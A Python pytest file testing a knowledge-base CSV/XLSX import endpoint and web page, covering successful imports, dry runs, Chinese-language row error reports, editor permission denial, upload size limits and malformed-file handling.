

def upload(client: TestClient, headers: dict[str, str], data: bytes, filename: str,
           **form: str) -> Any:
    return client.post("/api/v1/import", headers=headers, data=form,
                       files={"file": (filename, data, "application/octet-stream")})


def test_api_import_returns_the_report(client: TestClient, db: Session, world: World) -> None:
    response = upload(client, bearer(db, world, "manager"),
                      csv_bytes([record("R-1"), record("R-2")]), "a.csv")
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["ok"], body["rows"], body["created"], body["errors"]) == (True, 2, 2, [])
    assert_article(db, "R-1", EXPECTED_RECORD)


def test_api_dry_run_writes_nothing(client: TestClient, db: Session, world: World) -> None:
    headers = bearer(db, world, "manager")
    before = snapshot(db)
    response = upload(client, headers, csv_bytes([record("R-1")]), "a.csv", dry_run="true")
    assert response.status_code == 200
    assert (response.json()["dry_run"], response.json()["created"]) == (True, 1)
    assert snapshot(db) == before


def test_api_rejects_bad_rows_with_problem_details_in_chinese(
        client: TestClient, db: Session, world: World) -> None:
    headers = bearer(db, world, "manager")
    before = snapshot(db)
    data = csv_bytes([record("R-1"), record("R-2", title=""), record("R-3", queues="Z9")])
    response = upload(client, headers, data, "a.csv")
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("application/problem+json")
    problem = response.json()
    assert problem["code"] == "import_rejected"
    assert problem["detail"] == "文件中发现 2 个问题，未导入任何数据。"
    errors = problem["report"]["errors"]
    assert [(e["row"], e["column"], e["value"]) for e in errors] == [
        (3, "title", ""), (4, "queues", "Z9")]
    assert [e["message"] for e in errors] == ["此项为必填项。", "未知队列：Z9。"]
    assert [e["label"] for e in errors] == ["标题", "队列"]
    assert snapshot(db) == before


def test_api_import_is_forbidden_for_an_editor(client: TestClient, db: Session,
                                               world: World) -> None:
    headers = bearer(db, world, "editor")
    before = snapshot(db)
    response = upload(client, headers, csv_bytes([record("R-1")]), "a.csv")
    assert response.status_code == 403
    assert response.json()["code"] == "permission_denied"
    assert snapshot(db) == before


@pytest.fixture
def small_upload_limit(monkeypatch: pytest.MonkeyPatch) -> Iterator[int]:
    """Lower SECI_IMPORT_MAX_BYTES for one test instead of sending a 200 MB file."""
    monkeypatch.setenv("SECI_IMPORT_MAX_BYTES", "2048")
    get_settings.cache_clear()
    yield get_settings().import_max_bytes
    monkeypatch.undo()
    get_settings.cache_clear()


def test_api_rejects_an_oversize_upload(client: TestClient, db: Session, world: World,
                                        small_upload_limit: int) -> None:
    assert small_upload_limit == 2048
    headers = bearer(db, world, "manager")
    before = snapshot(db)
    data = csv_bytes([record(f"R-{i}") for i in range(50)])
    assert len(data) > small_upload_limit
    response = upload(client, headers, data, "a.csv")
    assert response.status_code in {413, 422}
    assert response.headers["content-type"].startswith("application/problem+json")
    assert response.json()["code"] == "import_file_too_large"
    assert "超过了" in response.json()["detail"]
    assert snapshot(db) == before


@pytest.mark.parametrize(("filename", "data", "code"), [
    ("a.csv", bytes(range(0x80, 0x100)), "import_bad_encoding"),
    ("a.xlsx", b"not a zip at all", "import_not_xlsx"),
    ("a.csv", b"", "import_empty"),
    ("a.xls", b"\xd0\xcf\x11\xe0", "import_unknown_format"),
])
def test_api_malformed_file_is_a_problem_not_a_server_error(
        client: TestClient, db: Session, world: World, filename: str, data: bytes,
        code: str) -> None:
    response = upload(client, bearer(db, world, "manager"), data, filename)
    assert response.status_code == 422
    problem = response.json()
    assert problem["code"] == code
    assert "Traceback" not in response.text and problem["detail"]


# --- web page ----------------------------------------------------------------------------

def post_import_page(client: TestClient, data: bytes, filename: str,
                     **form: str) -> Any:
    page = client.get("/kb/import")
    assert page.status_code == 200
    return client.post("/kb/import", data={"csrf_token": csrf_of(page.text), **form},
                       files={"file": (filename, data, "text/csv")})


def test_web_import_page_lists_every_row_error_in_chinese(client: TestClient, db: Session,
                                                          world: World) -> None:
    web_login(client, "manager")
    before = snapshot(db)
    data = csv_bytes([record("R-1"), record("R-2", valid_from="明天"),
                      record("R-3", queues="Z9")])
    response = post_import_page(client, data, "知识.csv")
    assert response.status_code == 422
    html = response.text
    assert "发现 2 个问题，未导入任何数据。" in html
    assert "<td>3</td>" in html and "<td>4</td>" in html
    assert "日期格式不正确：明天（请按 YYYY-MM-DD 填写）。" in html
    assert "未知队列：Z9。" in html
    assert snapshot(db) == before


def test_web_import_page_imports_a_good_file(client: TestClient, db: Session,
                                             world: World) -> None:
    web_login(client, "manager")
    response = post_import_page(client, csv_bytes([record("R-1")]), "知识.csv")
    assert response.status_code == 200
    assert "导入完成" in response.text
    assert "共 1 行：新建 1 条，更新 0 条，0 条未变。" in response.text
    assert_article(db, "R-1", EXPECTED_RECORD)


def test_web_import_page_dry_run_writes_nothing(client: TestClient, db: Session,
                                                world: World) -> None:
    web_login(client, "manager")
    before = snapshot(db)
    response = post_import_page(client, csv_bytes([record("R-1")]), "知识.csv",
                                dry_run="on")
    assert response.status_code == 200
    assert "文件校验通过（未写入任何数据）" in response.text
    assert snapshot(db) == before


def test_web_import_page_explains_an_unreadable_file(client: TestClient, db: Session,
                                                     world: World) -> None:
    web_login(client, "manager")
    response = post_import_page(client, bytes(range(0x80, 0x100)), "知识.csv")
    assert response.status_code == 422
    assert "既不是 UTF-8 也不是 GBK/GB18030" in response.text
    assert "Traceback" not in response.text


def test_web_import_page_is_forbidden_for_an_editor(client: TestClient, db: Session,
                                                    world: World) -> None:
    web_login(client, "editor")
    assert client.get("/kb/import").status_code == 403
